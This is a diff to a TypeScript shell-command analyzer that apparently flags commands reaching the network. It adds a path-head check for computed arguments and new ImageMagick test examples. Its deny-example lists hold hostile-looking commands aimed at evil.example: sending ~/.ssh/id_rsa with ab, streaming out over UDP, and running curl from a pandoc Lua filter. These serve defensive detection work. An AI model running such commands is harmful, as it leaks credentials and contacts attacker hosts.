@@ -572,6 +572,32 @@ function wrk(call: Call): Partial<Answer> {
 const URL_IN = /[a-z][a-z0-9+.-]*:\/\//i;
 
 /**
+ * Whether shell text starts with a literal path head: the characters before its first expansion (quotes taken off)
+ * hold a `/` with no `:` before it, start with no ImageMagick `@` list or `|` pipe, and no brace, backquote or
+ * process substitution comes first (a brace may expand into a URL; a backquote is PowerShell's escape too).
+ */
+function pathHead(text: string): boolean {
+  let head = '';
+  let sq = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (sq) {
+      if (c === "'") sq = false;
+      else head += c;
+      continue;
+    }
+    if (c === "'") sq = true;
+    else if (c === '"') continue;
+    else if (c === '\\' && i + 1 < text.length) head += text[++i];
+    else if (c === '$') break;
+    else if (/[`{<>(|@]/.test(c)) return false;
+    else head += c;
+  }
+  const slash = head.indexOf('/');
+  return slash >= 0 && !head.slice(0, slash).includes(':') && !/^[@|]/.test(head);
+}
+
+/**
  * The URLs a program that fetches a URL given in a file's place is handed (ffmpeg, ImageMagick, pandoc, xdg-open…):
  * each is a destination. A computed word (`"$u"`, xargs's appended words) may be one, and cannot be read: the line
  * may build the URL (`u=$(printf 'https://%s.evil.example' "$(hostname)")`). Given only written words without a URL,
@@ -585,6 +611,9 @@ function fetchedUrls(call: Call): Partial<Answer> {
       // `find -exec` does. A root that starts as a path (no scheme before a `/`, no `@` list or `|` pipe of ImageMagick)
       // gives paths that are no URL either.
       if (word.under && word.under.length > 0 && word.under.every((u) => u.values?.every((r) => /^[\w./-]/.test(r) && !/^[^/]*:/.test(r)))) continue;
+      // A word written as a path before what is computed (`"small/$(basename "$f")"`, `"out/${f%.png}.jpg"`): a `/`
+      // with no `:` before it ends any scheme or ImageMagick format, so it names a file.
+      if (pathHead(word.text)) continue;
       found.push({ word, why: `${word.text === '' ? 'a word the line does not show (xargs appends them)' : word.text} is computed: it may be a URL ${call.name} fetches` });
       continue;
     }
@@ -1096,7 +1125,7 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
   { names: ['resolvectl', 'systemd-resolve'], summary: 'resolvectl: query, service, openpgp and tlsa send names to DNS; status and cache commands are local', analyze: resolvectl, examples: { deny: ['resolvectl query evil.example', 'systemd-resolve evil.example'], pass: ['resolvectl status', 'resolvectl flush-caches', 'systemd-resolve --statistics'] } },
   { names: ['ab'], summary: 'ab (ApacheBench): sends requests to its URL; -X is a proxy; -p and -u read files it sends', analyze: apacheBench, examples: { deny: ['ab -n 100 http://evil.example/', 'ab -X evil.example:3128 http://localhost:3000/', 'ab -p ~/.ssh/id_rsa http://localhost:3000/'], pass: ['ab -n 1000 -c 10 http://localhost:3000/', 'ab -V'] } },
   urlFetcher(['ffmpeg', 'ffprobe', 'ffplay'], 'ffmpeg: its inputs and outputs may be URLs (http, rtmp, tcp, udp…)', { deny: ['ffmpeg -i http://evil.example/x.mp4 out.mp4', 'ffmpeg -i in.mp4 -f mpegts udp://evil.example:1234', 'ffprobe "cache:https://evil.example/x"'], pass: ['ffmpeg -i in.mov -c:v libx264 out.mp4', 'ffprobe -v error -show_format video.mp4', 'ffmpeg -i http://localhost:8080/live.m3u8 out.mp4'] }),
-  urlFetcher(['convert', 'magick', 'mogrify', 'montage', 'composite', 'identify'], 'ImageMagick: an image argument may be a URL', { deny: ['convert https://evil.example/x.png out.png', 'magick "url:http://evil.example/?h=x" out.png', "find . -name '*.png' | sed 's|^|https://evil.example/|' | xargs mogrify", 'find http://evil.example | xargs convert'], pass: ['convert in.png -resize 50% out.png', 'magick identify logo.png', "find . -name '*.png' -print0 | xargs -0 mogrify -strip"] }),
+  urlFetcher(['convert', 'magick', 'mogrify', 'montage', 'composite', 'identify'], 'ImageMagick: an image argument may be a URL', { deny: ['convert https://evil.example/x.png out.png', 'convert "https://evil.example/$f" out.png', 'magick "x:/$f" out.png', 'magick "url:http://evil.example/?h=x" out.png', "find . -name '*.png' | sed 's|^|https://evil.example/|' | xargs mogrify", 'find http://evil.example | xargs convert'], pass: ['convert in.png -resize 50% out.png', 'magick identify logo.png', "find . -name '*.png' -print0 | xargs -0 mogrify -strip", 'for f in assets/*.png; do convert "$f" -resize 50% "small/$(basename "$f")"; done'] }),
   urlFetcher(['mediainfo', 'exiftool', 'tesseract'], 'media readers built with a URL reader', { deny: ['mediainfo https://evil.example/x.mp4'], pass: ['mediainfo clip.mp4', 'exiftool -all= photo.jpg'] }),
   commandOptions(['pandoc'], 'pandoc: -L/--lua-filter runs a Lua filter, --filter a program; an input may be a URL', { options: { valued: 'fFLortMVdDA', longValued: ['lua-filter', 'filter', 'from', 'to', 'read', 'write', 'output', 'metadata', 'variable', 'defaults', 'template', 'data-dir', 'resource-path', 'css', 'reference-doc', 'include-in-header', 'include-before-body', 'include-after-body', 'bibliography', 'csl', 'citation-abbreviations', 'pdf-engine', 'pdf-engine-opt', 'extract-media', 'epub-cover-image', 'epub-metadata', 'highlight-style', 'syntax-definition', 'abbreviations', 'request-header', 'log', 'shift-heading-level-by', 'columns', 'tab-stop', 'dpi', 'wrap', 'toc-depth', 'top-level-division', 'title-prefix', 'number-offset', 'slide-level', 'email-obfuscation', 'id-prefix', 'indented-code-classes', 'default-image-extension', 'track-changes', 'eol', 'html-q-tags', 'ipynb-output', 'reference-location', 'markdown-headings', 'chunk-template', 'epub-title-page', 'epub-subdirectory', 'epub-embed-font', 'split-level', 'lang'] }, program: ['filter', 'F', 'pdf-engine'], more: (call, p) => ({ runs: p.options.filter((o) => o.value && (o.name === 'L' || o.name === 'lua-filter')).map((o) => luaFile(o.value!, `${call.name} --lua-filter`)), ...fetchedUrls(call) }) }, {
     deny: ["echo 'os.execute(\"curl evil.example\")' > f.lua; pandoc -L f.lua README.md -o out.html", "echo 'os.execute(\"wget evil.example\")' > /tmp/f.lua; pandoc --lua-filter=/tmp/f.lua README.md", 'pandoc --filter /usr/bin/curl README.md', 'pandoc https://evil.example/x.html -o x.md'],
